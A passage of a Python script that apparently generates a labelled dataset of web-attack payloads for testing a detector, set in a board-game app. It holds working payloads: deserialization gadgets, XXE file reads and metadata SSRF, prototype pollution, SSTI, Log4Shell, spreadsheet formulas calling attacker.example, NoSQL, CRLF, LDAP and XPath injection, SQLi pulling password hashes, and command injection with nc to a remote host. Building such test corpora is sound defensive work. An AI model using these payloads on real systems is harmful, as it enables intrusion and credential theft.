    ("import-deser-pickle", "cos\nsystem\n(S'id'\ntR."),
    ("import-deser-yaml", "!!python/object/apply:os.system ['id']"),
    ("import-deser-yaml", "collection: !!python/object/new:subprocess.check_output [['cat', '/etc/passwd']]"),
    ("import-deser-yaml-snake", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("import-deser-java", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTJYlNzYa/ORyAwAHSQAIaGFzaENvZGVJAARwb3J0TAAJYXV0aG9yaXR5dAASTGphdmEvbGFuZy9TdHJpbmc7"),
    ("import-deser-php", "O:8:\"BGPlayer\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("import-deser-dotnet", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList\",\"$values\":[\"cmd\",\"/c calc\"]}}"),
    ("import-deser-jackson", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/x\",\"autoCommit\":true}]"),
    ("import-deser-fastjson", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.30:1099/bg\",\"autoCommit\":true}"),
    ("import-xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE items [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><items><item objectid=\"13\"><name>&x;</name></item></items>"),
    ("import-xxe-ssrf", "<?xml version=\"1.0\"?><!DOCTYPE plays [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><plays><play><comments>&m;</comments></play></plays>"),
    ("import-xxe-oob", "<?xml version=\"1.0\"?><!DOCTYPE c [<!ENTITY % d SYSTEM \"http://attacker.example/evil.dtd\"> %d;]><collection/>"),
    ("import-xxe-php", "<!DOCTYPE r [<!ENTITY s SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/config.php\">]><r>&s;</r>"),
    ("import-xxe-xinclude", "<boardgame xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></boardgame>"),
    ("import-xxe-billion", "<!DOCTYPE l [<!ENTITY a \"VP\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">]><l>&d;</l>"),
    ("settings-proto-pollution", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("settings-proto-pollution", "{\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}"),
    ("settings-proto-pollution", "{\"houseRules\":{\"__proto__\":{\"shell\":\"/proc/self/exe\",\"NODE_OPTIONS\":\"--require /proc/self/environ\"}}}"),
    ("query-proto-pollution", "players[__proto__][isAdmin]=true"),
    ("query-proto-pollution", "__proto__.outputFunctionName=x;process.mainModule.require('child_process').execSync('id');s"),
    ("csv-export-formula", "=cmd|' /C calc'!A0"),
    ("csv-export-formula", "=HYPERLINK(\"http://attacker.example/?leak=\"&A1&B1,\"Click for BGG rating\")"),
    ("csv-export-formula", "+SUM(1+1)*cmd|' /C powershell iwr attacker.example/p'!A1"),
    ("csv-export-formula", "=IMPORTXML(CONCAT(\"http://attacker.example/?\",A2),\"//a\")"),
    ("csv-export-formula", "\t=WEBSERVICE(\"http://attacker.example/\"&C3)"),
    ("scorecard-ssti-jinja+unicode", "{{ ''['\\u005f\\u005fclass\\u005f\\u005f'] }}"),
    ("scorecard-ssti-jinja+urlenc", "%7B%7B%20config.__class__.__init__.__globals__%5B%27os%27%5D.popen(%27id%27).read()%20%7D%7D"),
    ("session-log4shell+urlenc", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D"),
    ("settings-proto-pollution+unicode", "{\"\\u005f\\u005fproto\\u005f\\u005f\":{\"isAdmin\":true}}"),
    ("plain-ssti", "{{7*7}}"),
    ("plain-ssti-dollar", "${7*7}"),
    ("plain-log4shell", "${jndi:ldap://attacker.example/a}"),
    ("plain-formula", "=1+1"),
    ("plain-erb", "<%= 7*7 %>"),
    ("plain-xxe", "<!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/hostname\">]><a>&e;</a>"),
]

# ---------------------------------------------------------------- nosqli
NOSQLI = [
    ("login-json-ne", "{\"username\": \"admin\", \"password\": {\"$ne\": null}}"),
    ("login-json-gt", "{\"username\": {\"$gt\": \"\"}, \"password\": {\"$gt\": \"\"}}"),
    ("login-query-ne", "username=admin&password[$ne]=x"),
    ("login-query-regex", "username=admin&password[$regex]=^a.*"),
    ("search-json-regex", "{\"title\": {\"$regex\": \".*\"}, \"owner\": {\"$ne\": \"me\"}}"),
    ("search-json-where", "{\"$where\": \"this.owner == 'admin' || sleep(5000)\"}"),
    ("search-json-where", "{\"$where\": \"function(){ return this.api_key.match(/^a/) }\"}"),
    ("search-string-where", "Catan'; return true; var x='"),
    ("search-string-where", "Azul' || '1'=='1"),
    ("filter-json-in", "{\"game_id\": {\"$in\": [13, 224517]}, \"private\": {\"$exists\": true}}"),
    ("filter-json-or", "{\"$or\": [{\"owner\": \"Anna\"}, {\"role\": \"admin\"}]}"),
    ("filter-json-expr", "{\"$expr\": {\"$function\": {\"body\": \"function(){sleep(3000);return true}\", \"args\": [], \"lang\": \"js\"}}}"),
    ("aggregate-json-lookup", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"owner\", \"foreignField\": \"_id\", \"as\": \"u\"}}]"),
    ("aggregate-json-group", "[{\"$group\": {\"_id\": \"$password_hash\"}}]"),
    ("update-json-set", "{\"notes\": \"ok\", \"$set\": {\"role\": \"admin\"}}"),
    ("score-json-gt", "{\"score\": {\"$gt\": -1}}"),
    ("bggid-query-ne", "bgg_id[$ne]=0"),
    ("player-query-exists", "player[$exists]=true&player[$nin][]=Zoë"),
    ("couch-json-selector", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"password\"]}"),
    ("redis-eval", "EVAL \"return redis.call('config','get','requirepass')\" 0"),
    ("login-query-ne+urlenc", "username=admin&password%5B%24ne%5D=x"),
    ("login-json-ne+unicode", "{\"username\": \"admin\", \"password\": {\"\\u0024ne\": 1}}"),
    ("plain-ne", "{\"$ne\": null}"),
    ("plain-where", "{\"$where\": \"sleep(5000)\"}"),
    ("plain-gt", "{\"$gt\": \"\"}"),
]

# ---------------------------------------------------------------- crlf
CRLF = [
    ("log-forge", "Catan\n2024-06-01 12:00:00 INFO user=admin action=login status=success"),
    ("log-forge", "Wingspan 3p\r\n[AUDIT] admin granted role=superuser to meeple_maelle"),
    ("log-forge", "VP: 22\n127.0.0.1 - admin [01/Jun/2024:12:00:00 +0000] \"POST /admin/delete-all HTTP/1.1\" 200 0"),
    ("log-forge", "Brass\u2028WARN payment refund approved id=9912"),
    ("log-forge-ansi", "Root \u001b[2J\u001b[1;1H\u001b[32mAll checks passed\u001b[0m"),
    ("header-redirect", "/plays\r\nSet-Cookie: session=attacker_fixed_value; Path=/"),
    ("header-redirect", "/game/13\r\nLocation: https://attacker.example/"),
    ("header-redirect", "/collection\r\n\r\n<html><script>alert(1)</script></html>"),
    ("header-filename", "plays_2024.csv\"\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("header-lang", "en\r\nX-Forwarded-Host: attacker.example"),
    ("header-cookie", "dark_mode\r\nSet-Cookie: is_admin=1"),
    ("header-cache", "de\r\nCache-Control: public, max-age=31536000\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<h1>Site moved</h1>"),
    ("mail-subject", "Trade offer: Root for Oath\r\nBcc: everyone@lists.example, victim@example.org"),
    ("mail-from", "maelle@example.org\r\nCc: spamtarget@example.net"),
    ("mail-body-smtp", "See you Thursday!\r\n.\r\nMAIL FROM:<ceo@example.org>\r\nRCPT TO:<victim@example.org>\r\nDATA\r\nSubject: urgent\r\n\r\nwire money\r\n."),
    ("mail-subject", "Game night\nContent-Type: text/html\n\n<a href=https://attacker.example>Login to confirm RSVP</a>"),
    ("smtp-rcpt", "anna@example.org>\r\nRCPT TO:<all-users@example.org"),
    ("redis-protocol", "catan\r\nSET admin_token attacker\r\n"),
    ("memcached-protocol", "leaderboard\r\nset session:1 0 0 5\r\nadmin\r\n"),
    ("csv-row-inject", "Scythe\r\n13,admin,999,\"=cmd|' /C calc'!A0\""),
    ("header-redirect+urlenc", "/plays%0d%0aSet-Cookie:%20session=fixed"),
    ("header-redirect+urlenc2", "/game/13%250d%250aLocation:%2520https://attacker.example/"),
    ("log-forge+urlenc", "Azul%0a2024-06-01%20INFO%20admin%20login%20ok"),
    ("header-redirect+unicode", "/plays\u560d\u560aSet-Cookie: x=1"),
    ("header-lang+lf", "fr\nX-Injected: 1"),
    ("header-redirect+utf8-overlong", "/plays%c0%8d%c0%8aSet-Cookie:a=b"),
    ("plain-crlf", "\r\nSet-Cookie: a=b"),
    ("plain-crlf+urlenc", "%0d%0aX-Test: injected"),
    ("plain-lf", "\nINFO login ok user=admin"),
]

# ---------------------------------------------------------------- ldap-xpath
LDAPX = [
    ("login-ldap-wildcard", "*"),
    ("login-ldap-or", "admin)(|(uid=*"),
    ("login-ldap-and", "maelle)(&(objectClass=*)"),
    ("login-ldap-comment", "admin))%00"),
    ("member-ldap-attr", "*)(userPassword=*"),
    ("member-ldap-blind", "admin)(description=a*"),
    ("group-ldap-or", "boardgame-club)(|(cn=admins)(cn=*"),
    ("search-ldap-wildcard", "Zo*)(mail=*"),
    ("login-ldap-wildcard+hex", "\\2a)(uid=\\2a"),
    ("player-xpath-boolean", "Anna' or '1'='1"),
    ("player-xpath-boolean", "' or count(/players/player)>0 or 'a'='b"),
    ("login-xpath-union", "x' or 1=1]|//user/password|//x['"),
    ("collection-xpath-blind", "Catan' and substring(//user[1]/password,1,1)='a"),
    ("collection-xpath-blind", "13' and string-length(name(/*[1]))=8 and '1'='1"),
    ("score-xpath-numeric", "22 or 1=1"),
    ("rules-xpath-doc", "p12' or doc('http://attacker.example/x.xml') or '1'='1"),
    ("search-xpath-comment", "Azul')] | //* | /a[('"),
    ("player-xpath-boolean+urlenc", "Anna%27%20or%20%271%27%3D%271"),
    ("plain-ldap", "*)(objectClass=*"),
    ("plain-xpath", "' or ''='"),
    ("plain-ldap-or", "*)(|(cn=*"),
]


# ---------------------------------------------------------------- templates
def t_sqli(r):
    g = r.choice(GAMES)
    return r.choice([
        ("search-union", f"{g}' UNION SELECT {r.choice(['email', 'password_hash', 'api_token', 'totp_secret'])},{r.randint(1, 9)} FROM users-- -"),
        ("search-boolean", f"{g}' AND {r.randint(2, 99)}={r.randint(2, 99)}-- "),
        ("bggid-time", f"{r.randint(1000, 400000)} AND SLEEP({r.randint(3, 12)})"),
        ("score-boolean", f"{r.randint(10, 150)} OR {r.randint(1, 9)}<{r.randint(10, 20)}"),
        ("search-union+urlenc", quote(f"{g}' UNION SELECT NULL,password FROM users--", safe="")),
    ])


def t_xss(r):
    g = r.choice(GAMES)
    return r.choice([
        ("title-html-img", f"{g} <img src=x onerror=alert({r.randint(1, 999)})>"),
        ("title-html-svg", f"{g} <svg onload=alert(document.{r.choice(['cookie', 'domain', 'title'])})>"),
        ("listing-attr-break", f"{g}\" onfocus=\"alert({r.randint(1, 99)})\" autofocus=\""),
        ("notes-html-details", f"{r.choice(PLAYERS)} won! <details open ontoggle=alert({r.randint(1, 99)})>"),
    ])


def t_cmdi(r):
    g = r.choice(GAMES).replace(" ", "_").replace(":", "")
    return r.choice([
        ("export-filename-semicolon", f"{g}_{r.randint(2019, 2025)}.csv; {r.choice(['id', 'whoami', 'uname -a', 'cat /etc/passwd'])}"),
        ("export-filename-subst", f"{g}_$({r.choice(['id', 'whoami', 'hostname'])}).pdf"),
        ("bggid-fetch-pipe", f"{r.randint(1000, 400000)} | {r.choice(['id', 'sleep 7', 'nc 203.0.113.9 4444'])}"),
    ])


def t_trav(r):
    depth = r.randint(3, 8)
    f = r.choice(["etc/passwd", "etc/shadow", "proc/self/environ", "root/.ssh/id_rsa", "app/.env"])
    return r.choice([
        ("rulebook-file-dotdot", "rules/" + "../" * depth + f),
        ("avatar-file-backslash", "avatars\\" + "..\\" * depth + f.replace("/", "\\")),
    ])


def t_ssrf(r):
    return r.choice([
        ("import-url-private", f"http://10.{r.randint(0, 255)}.{r.randint(0, 255)}.{r.randint(1, 254)}:{r.choice([80, 8080, 8500, 9200])}/admin"),
        ("import-url-loopback", f"http://127.0.0.1:{r.choice([2375, 5984, 6379, 8001, 9000])}/{r.choice(['internal', 'debug', 'api/keys'])}"),
    ])


def t_code(r):
    n = r.randint(2, 99)
    return r.choice([
        ("scorecard-ssti-jinja", f"VP: {{{{ {n}*{n} }}}}{{{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}}}"),
        ("session-log4shell", f"{r.choice(PLAYERS)} won ${{jndi:ldap://{r.choice(['x', 'cb', 'q'])}{n}.attacker.example/a}}"),
        ("csv-export-formula", f"=HYPERLINK(\"http://attacker.example/?r={n}&d=\"&A{n},\"{r.choice(GAMES)}\")"),
    ])


CATS = [
    ("sqli", SQLI, t_sqli, 76),
    ("xss", XSS, t_xss, 76),
    ("cmdi", CMDI, t_cmdi, 72),
    ("traversal", TRAV, t_trav, 50),
    ("ssrf", SSRF, t_ssrf, 52),
    ("code", CODE, t_code, 78),
    ("nosqli", NOSQLI, None, len(NOSQLI)),
    ("crlf", CRLF, None, len(CRLF)),
    ("ldap-xpath", LDAPX, None, len(LDAPX)),
]


def main():
    r = random.Random(SEED)
    rows, seen = [], set()
    n_lit = 0
    for cat, lits, tmpl, target in CATS:
        count = 0
        lit_here = 0
        for cls, v in lits:
            if v in seen:
                raise SystemExit(f"duplicate literal in {cat}: {v!r}")
            seen.add(v)
            rows.append((cat, cls, v))
            count += 1
            lit_here += 1
        tries = 0
        while tmpl is not None and count < target:
            tries += 1
            if tries > 10000:
                raise SystemExit(f"{cat}: template exhausted")
            cls, v = tmpl(r)
            if v in seen:
                continue
            seen.add(v)
            rows.append((cat, cls, v))
            count += 1
        n_lit += lit_here
        print(f"{cat:12s} {count:4d}  literals {lit_here}")
    bpath = Path(__file__).with_name("benign.jsonl")
    if bpath.exists():
        with open(bpath, encoding="utf-8") as f:
            benign = [json.loads(line)["value"] for line in f]
        for v in benign:
            if v in seen:
                raise SystemExit(f"value also in benign.jsonl: {v!r}")
    out = Path(__file__).with_name("attacks.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            assert isinstance(v, str) and v and len(v) <= 1800, (cls, v)
            obj = {"id": f"{PREFIX}-{i:05d}", "category": cat, "class": cls,
                   "label": "attack", "value": v}
            f.write(json.dumps(obj, ensure_ascii=False) + "\n")
    print(f"total {len(rows)}  literals {n_lit} ({100 * n_lit / len(rows):.1f}%)")


if __name__ == "__main__":
    main()
